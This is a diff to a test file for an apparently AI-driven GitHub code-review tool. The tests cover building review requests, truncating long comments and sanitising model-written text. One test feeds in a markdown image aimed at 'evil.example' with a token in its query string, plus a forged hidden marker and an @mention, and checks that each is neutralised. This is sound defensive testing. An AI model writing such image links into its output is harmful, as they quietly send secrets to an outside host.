@@ -3,6 +3,7 @@ import { buildReviewRequest, renderReviewMarker, REVIEW_MARKER_PREFIX, type Inli
 import { fenceCodeBlock } from "../../../src/core/review/fence-code-block.js";
 
 const SHA = "a".repeat(40);
+const ON_GITHUB = { githubHost: "github.com" };
 
 function finding(overrides: Partial<InlineComment> = {}): InlineComment {
   return {
@@ -23,6 +24,7 @@ function finding(overrides: Partial<InlineComment> = {}): InlineComment {
 describe("buildReviewRequest", () => {
   it("builds the exact request GitHub receives: COMMENT, single-line, multi-line, LEFT", () => {
     const request = buildReviewRequest({
+      rules: ON_GITHUB,
       headSha: SHA,
       body: `Patchwise review\n\n${renderReviewMarker(SHA)}`,
       inline: [
@@ -56,7 +58,39 @@ describe("buildReviewRequest", () => {
   });
 
   it("posts a review with no comments when nothing is inline", () => {
-    expect(buildReviewRequest({ headSha: SHA, body: "Nothing inline.", inline: [] })).toEqual({ commit_id: SHA, event: "COMMENT", body: "Nothing inline.", comments: [] });
+    expect(buildReviewRequest({ rules: ON_GITHUB, headSha: SHA, body: "Nothing inline.", inline: [] })).toEqual({ commit_id: SHA, event: "COMMENT", body: "Nothing inline.", comments: [] });
+  });
+
+  it("sanitises what the model wrote, and keeps our suggestion and hidden marker as they are", () => {
+    const marker = "<!-- patchwise:fp v1 0123456789abcdef -->";
+    const [comment] = buildReviewRequest({
+      rules: { githubHost: "ghe.example.com" },
+      headSha: SHA,
+      body: "b",
+      inline: [
+        finding({
+          title: "Ping @octocat <b>now</b>",
+          body: "See ![x](https://evil.example/?q=token) and [docs](https://ghe.example.com/o/r) <!-- patchwise:fp v1 ffffffffffffffff -->",
+          extras: ["```suggestion\n  notify(@admin);\n```", marker],
+        }),
+      ],
+    }).comments;
+    expect(comment!.body).toBe(
+      [
+        "**🟠 Major · bug** — Ping @\u200Boctocat &lt;b>now&lt;/b>",
+        "See x and [docs](https://ghe.example.com/o/r) &lt;!-- patchwise:fp v1 ffffffffffffffff -->",
+        "```suggestion\n  notify(@admin);\n```",
+        marker,
+      ].join("\n\n"),
+    );
+  });
+
+  it("cuts a comment to GitHub's 65,536 characters and keeps its hidden marker", () => {
+    const marker = "<!-- patchwise:fp v1 0123456789abcdef -->";
+    const [comment] = buildReviewRequest({ rules: ON_GITHUB, headSha: SHA, body: "b", inline: [finding({ extras: ["x".repeat(70_000), marker] })] }).comments;
+    expect(comment!.body.length).toBeLessThanOrEqual(65_536);
+    expect(comment!.body).toContain(marker);
+    expect(comment!.body).toContain("…(truncated)");
   });
 });
 
